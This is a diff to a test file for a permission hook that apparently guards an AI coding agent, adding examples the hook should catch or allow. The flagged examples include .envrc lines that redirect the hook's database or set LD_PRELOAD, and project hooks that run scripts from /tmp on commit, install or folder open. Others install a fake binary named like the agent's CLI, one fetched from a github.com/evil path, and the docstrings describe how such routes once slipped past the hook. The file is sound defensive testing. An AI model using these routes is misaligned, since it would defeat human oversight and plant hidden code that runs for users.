@@ -34,6 +34,12 @@ def _write(path: str, content: str) -> dict[str, Any]:
     return {"tool_name": "Write", "tool_input": {"file_path": path, "content": content}}
 
 
+def _pkg(**fields: Any) -> str:
+    import json
+
+    return json.dumps(fields)
+
+
 def _mcp(tool: str, args: dict[str, Any]) -> dict[str, Any]:
     return {"tool_name": tool, "tool_input": args}
 
@@ -248,7 +254,8 @@ class TestEnvFileReadAsItsLoaderReads:
     folder first on PATH -- and each was allowed, where the plain `export NAME=value` is denied or asked. Now the text is
     also searched as its loader reads it (rules/self.py env_as_read, json_as_read: bash's continuations, quoted names,
     `+=`, `${NAME:=v}`, `read`/`printf -v`, dotenv's colon form; mise's [env] through tomllib; JSON(C) parsed, each
-    member written plainly). Open: a name held in another variable (`export "$n=…"`)."""
+    member written plainly), and a name held in another variable (`n=NAME; export "$n=…"`, a `for` list, a name built
+    from two) is expanded as bash expands it (self._names_expanded)."""
 
     DANGEROUS: ClassVar[list[Any]] = [
         _write(P + "/.envrc", "export 'CLEARANCE_DB'=/tmp/x.db\n"),
@@ -274,8 +281,22 @@ class TestEnvFileReadAsItsLoaderReads:
         _write(P + "/mise.toml", '[env]\n"\\u0043LEARANCE_DB" = "/tmp/x.db"\n'),
         _write(P + "/mise.toml", '[env]\n"XDG_CONFIG_HOME" = "/tmp/c"\n'),
         _write(P + "/mise.toml", '[env]\n_.path = ["/tmp/bin"]\n'),
+        # A name held in another variable, each spelling bash expands before it assigns (fix11: no rule named them).
+        _write(P + "/.envrc", 'n=CLEARANCE_DB\nexport "${n}=/tmp/x.db"\n'),
+        _write(P + "/.envrc", 'p=CLEARANCE; export "${p}_DB=/tmp/x.db"\n'),
+        _write(P + "/.envrc", 'a=CLEAR; b=${a}ANCE_DB; export "$b=/tmp/x"\n'),
+        _write(P + "/.envrc", 'for n in PORT CLEARANCE_DB; do export "$n=/tmp/x.db"; done\n'),
+        _write(P + "/.envrc", 'n=LD_PRELOAD; declare -x "$n=/tmp/x.so"\n'),
+        _write(P + "/.envrc", 'n=CLEARANCE_DB; printf -v "$n" %s /tmp/x.db; export "$n"\n'),
+        _write(P + "/.envrc", 'n=CLEARANCE_DB; eval "export $n=/tmp/x.db"\n'),
+        _write(P + "/.envrc", 'n="XDG_CONFIG_HOME"\nexport "$n"=/tmp/c\n'),
+        _write(P + "/.envrc", "printf -v 'CLEARANCE_DB' %s /tmp/x.db; export CLEARANCE_DB\n"),
     ]
     ORDINARY: ClassVar[list[Any]] = [
+        _write(P + "/.envrc", 'n=PORT; export "$n=3000"\n'),
+        _write(P + "/.envrc", 'for v in NODE_ENV APP_ENV; do export "$v=development"; done\n'),
+        _write(P + "/.envrc", 'name=webapp\nexport COMPOSE_PROJECT_NAME="$name"\n'),
+        _write(P + "/.envrc", 'for f in .env .env.local; do dotenv_if_exists "$f"; done\n'),
         _write(P + "/.envrc", "export 'PORT'=3000\n"),
         _write(P + "/.envrc", ": ${PORT:=3000}; export PORT\n"),
         _write(P + "/.env", "DATABASE_URL: postgres://localhost/dev\n"),
@@ -288,10 +309,7 @@ class TestEnvFileReadAsItsLoaderReads:
         _write(P + "/.env", "APP_NAME: webapp\nPORT: 3000\n"),
         _write(V, '{\n  // the project\'s own sources\n  "terminal.integrated.env.linux": {"PYTHONPATH": "${workspaceFolder}/src",},\n}\n'),
     ]
-    GAPS: ClassVar[dict[str, str]] = _all_open(
-        [_write(P + "/.envrc", 'n=CLEARANCE_DB; export "$n=/tmp/x.db"\n')],
-        'unfinished: a variable\'s name held in another variable (export "$n=…") is not followed',
-    )
+    GAPS: ClassVar[dict[str, str]] = {}
 
     @pytest.mark.parametrize("example", DANGEROUS, ids=_ids(DANGEROUS))
     def test_dangerous(self, example: Any) -> None:
@@ -307,7 +325,16 @@ class TestEnvrcRunsProgramFromTemp:
     no question asked) at every later shell that loads it. `source /tmp/x.sh` and `source_env /tmp/x` are asked
     (self.sourced-environment-file); running the same file -- `bash /tmp/x.sh`, `/tmp/x.sh`, `python3 /tmp/x.py`, or
     evaluating its text -- is allowed: the script reader judges the line as a command, and a program in the temporary
-    folder is allowed by name (round 10a's general gap)."""
+    folder is allowed by name (round 10a's general gap).
+
+    The general form: a file another program runs later as shell -- direnv an `.envrc` at every cd, git or husky a hook
+    at the next commit, npm a lifecycle script, make a recipe, an editor a task when the folder opens, nix a shellHook,
+    mise a hook, Claude Code a custom command -- runs the temporary file as it is *then*, outside the hook: a command
+    typed now is judged with that file as it is now (the hook reads it); written for later, its text is unknown. Now
+    such a file is asked about (write.deferred-temp-code, rules/tools.deferred_temp_code, also for files the shell
+    writes: engine._judge_written) where one of its commands runs a file from the temporary folder (programs.run_targets)
+    or, in an env loader or beside code built at run time, reads a temporary file's text as code or variables. A file
+    the same code writes first is its own; a CI step runs on a runner whose temporary folder is not this machine's."""
 
     DANGEROUS: ClassVar[list[Any]] = [
         _write(P + "/.envrc", "bash /tmp/x.sh\n"),
@@ -315,14 +342,47 @@ class TestEnvrcRunsProgramFromTemp:
         _write(P + "/.envrc", "python3 /tmp/x.py\n"),
         _write(P + "/.envrc", 'eval "$(cat /tmp/e)"\n'),
         _write(P + "/.envrc", "export $(cat /tmp/e | xargs)\n"),
+        # Further cases of the class (fix11: written before the fix, no rule named them).
+        _write(P + "/.envrc", "sh /tmp/setup\n"),
+        _write(P + "/.envrc", "node /var/tmp/x.js\n"),
+        _write(P + "/.envrc", "/dev/shm/x --init\n"),
+        _write(P + "/.envrc", "source <(cat /tmp/e)\n"),
+        _write(P + "/.envrc", 'eval "$(/tmp/x.sh)"\n'),
+        _write(P + "/.envrc", 'export FOO="$(cat /tmp/v)"\n'),
+        _write(P + "/.husky/pre-commit", "bash /tmp/x.sh\n"),
+        _write(P + "/package.json", _pkg(name="x", scripts={"postinstall": "node /tmp/x.js"})),
+        _write(P + "/Makefile", "build:\n\tsh /tmp/x.sh\n"),
+        _write(
+            P + "/.vscode/tasks.json",
+            _pkg(version="2.0.0", tasks=[{"label": "x", "type": "shell", "command": "bash /tmp/x.sh", "runOptions": {"runOn": "folderOpen"}}]),
+        ),
+        _write(P + "/.devcontainer/devcontainer.json", _pkg(initializeCommand="bash /tmp/x.sh")),
+        _write(P + "/.claude/commands/setup.md", "Run !`bash /tmp/x.sh` first\n"),
+        _write(P + "/mise.toml", '[hooks]\nenter = "bash /tmp/x.sh"\n'),
+        _write(P + "/.pre-commit-config.yaml", "repos:\n- repo: local\n  hooks:\n  - id: x\n    name: x\n    entry: bash /tmp/x.sh\n    language: system\n"),
+        _write(
+            P + "/flake.nix",
+            '{ outputs = { self, nixpkgs }: { devShells.x86_64-linux.default = nixpkgs.legacyPackages.x86_64-linux.mkShell { shellHook = "bash /tmp/x.sh"; }; }; }\n',
+        ),
+        "echo 'bash /tmp/x.sh' >> .envrc",
+        "printf 'python3 /tmp/x.py\\n' > .husky/pre-push",
     ]
     ORDINARY: ClassVar[list[Any]] = [
         _write(P + "/.envrc", "layout python3\n"),
         _write(P + "/.envrc", "use flake\n"),
         _write(P + "/.envrc", "dotenv_if_exists .env.local\n"),
         _write(P + "/.envrc", "PATH_add bin\n"),
+        _write(P + "/.envrc", "export TMPDIR=/tmp/webapp\nlayout python3\n"),
+        _write(P + "/.envrc", "export PATH=$PWD/bin:$PATH\nexport CACHE_DIR=/tmp/cache\n"),
+        _write(P + "/scripts/gen.sh", "#!/bin/sh\ncat > /tmp/gen.py <<'EOF'\nprint(1)\nEOF\npython3 /tmp/gen.py\n"),
+        _write(P + "/Makefile", "clean:\n\trm -rf /tmp/webapp-build\n"),
+        _write(P + "/scripts/b.sh", "#!/bin/sh\nmkdir -p /tmp/out && ./build.sh --out /tmp/out\n"),
+        _write(P + "/scripts/s.sh", "#!/bin/sh\nsort /tmp/list.txt | uniq > out.txt\nVERSION=$(cat /tmp/version)\necho $VERSION\n"),
+        _write(P + "/.github/workflows/ci.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: bash /tmp/x.sh\n"),
+        _write(P + "/package.json", _pkg(name="x", scripts={"test": "jest --cacheDirectory /tmp/jest"})),
+        "echo 'export TMPDIR=/tmp/w' >> .envrc",
     ]
-    GAPS: ClassVar[dict[str, str]] = _all_open(DANGEROUS, "unfinished: an .envrc running a program from the temporary folder is not judged as sourcing one is")
+    GAPS: ClassVar[dict[str, str]] = {}
 
     @pytest.mark.parametrize("example", DANGEROUS, ids=_ids(DANGEROUS))
     def test_dangerous(self, example: Any) -> None:
@@ -337,20 +397,15 @@ def _with(command: str, files: dict[str, str]) -> dict[str, Any]:
     return {"tool_name": "Bash", "tool_input": {"command": command}, "files": files}
 
 
-def _pkg(**fields: Any) -> str:
-    import json
-
-    return json.dumps(fields)
-
-
 class TestGlobalInstallFromLocalFolder:
     """Class: a global install of a package from a folder or archive on this disk is the package its manifest names.
     `npm i -g @anthropic-ai/claude-code@x` is asked (self.agent-reinstall: the agent's CLI decides whether the hook
     runs); the same package from `/tmp/cc`, or any package whose `bin` puts a command named claude, codex, gemini,
     copilot or clearance on PATH (`npm i -g ./tools`, `npm link`, pnpm, bun, `yarn global add file:…`, `pipx install` or
     `uv tool install` of a project whose [project.scripts] holds one), was allowed: the operand is a path, not the name.
-    Now the manifest (package.json's name and bin, pyproject's scripts) is read where the hook reads files. Open: Cargo's
-    and Go's binaries named so (`cargo install --path`, `go install ./cmd/claude`)."""
+    Now the manifest (package.json's name and bin, pyproject's scripts) is read where the hook reads files; Cargo's
+    binaries by its manifest (each [[bin]], src/bin/NAME.rs, the package's name) and Go's by the last element of the
+    package path (go.mod's module for `.`), as `cargo install --path` and `go install` name them (self._native_binaries_named)."""
 
     DANGEROUS: ClassVar[list[Any]] = [
         _with("npm i -g /tmp/fc", {"/tmp/fc/package.json": _pkg(name="@anthropic-ai/claude-code", version="9.9.9", bin={"claude": "cli.js"})}),
@@ -366,6 +421,15 @@ class TestGlobalInstallFromLocalFolder:
         _with("uv tool install /tmp/fc", {"/tmp/fc/pyproject.toml": '[project]\nname = "helper"\n[project.scripts]\ncodex = "helper:main"\n'}),
         _with("cargo install --path /tmp/fc", {"/tmp/fc/Cargo.toml": '[package]\nname = "x"\n[[bin]]\nname = "claude"\npath = "src/main.rs"\n'}),
         "go install ./cmd/claude",
+        # Further cases of the class (fix11).
+        _with("cargo install --path=/tmp/fc --force", {"/tmp/fc/Cargo.toml": '[package]\nname = "x"\n[[bin]]\nname = "claude"\npath = "src/main.rs"\n'}),
+        _with("cargo install --path ./tools/cc", {P + "/tools/cc/Cargo.toml": '[package]\nname = "codex"\nversion = "0.1.0"\n'}),
+        _with("cargo install --path .", {P + "/Cargo.toml": '[package]\nname = "helper"\n', P + "/src/bin/gemini.rs": "fn main() {}"}),
+        "go install ./cmd/clearance/",
+        "go install github.com/evil/tools/cmd/codex@latest",
+        "go install example.com/x/claude/v2@v2.0.0",
+        _with("go install .", {P + "/go.mod": "module github.com/ana/claude\n\ngo 1.22\n"}),
+        _with("go install", {P + "/go.mod": "module github.com/ana/copilot\n"}),
     ]
     ORDINARY: ClassVar[list[Any]] = [
         _with("npm i -g ./tools", {P + "/tools/package.json": _pkg(name="helper", bin={"helper": "x.js"})}),
@@ -374,8 +438,19 @@ class TestGlobalInstallFromLocalFolder:
         _with("pipx install .", {P + "/pyproject.toml": '[project]\nname = "webapp"\n[project.scripts]\nwebapp = "webapp:main"\n'}),
         "npm install -g typescript",
         "npm link react",
+        _with("cargo install --path .", {P + "/Cargo.toml": '[package]\nname = "webapp-cli"\n'}),
+        _with(
+            "cargo install --path . --bin webapp",
+            {P + "/Cargo.toml": '[package]\nname = "webapp"\n[[bin]]\nname = "webapp"\npath = "src/main.rs"\n[[bin]]\nname = "claude"\npath = "src/c.rs"\n'},
+        ),
+        "cargo install ripgrep",
+        "go install ./cmd/server",
+        "go install golang.org/x/tools/gopls@latest",
+        "go install ./...",
+        _with("go install .", {P + "/go.mod": "module github.com/ana/webapp\n"}),
+        "go build ./cmd/claude",
     ]
-    GAPS: ClassVar[dict[str, str]] = _all_open(DANGEROUS[-2:], "unfinished: Cargo's and Go's binaries named like an agent's CLI are not read")
+    GAPS: ClassVar[dict[str, str]] = {}
 
     @pytest.mark.parametrize("example", DANGEROUS, ids=_ids(DANGEROUS))
     def test_dangerous(self, example: Any) -> None:
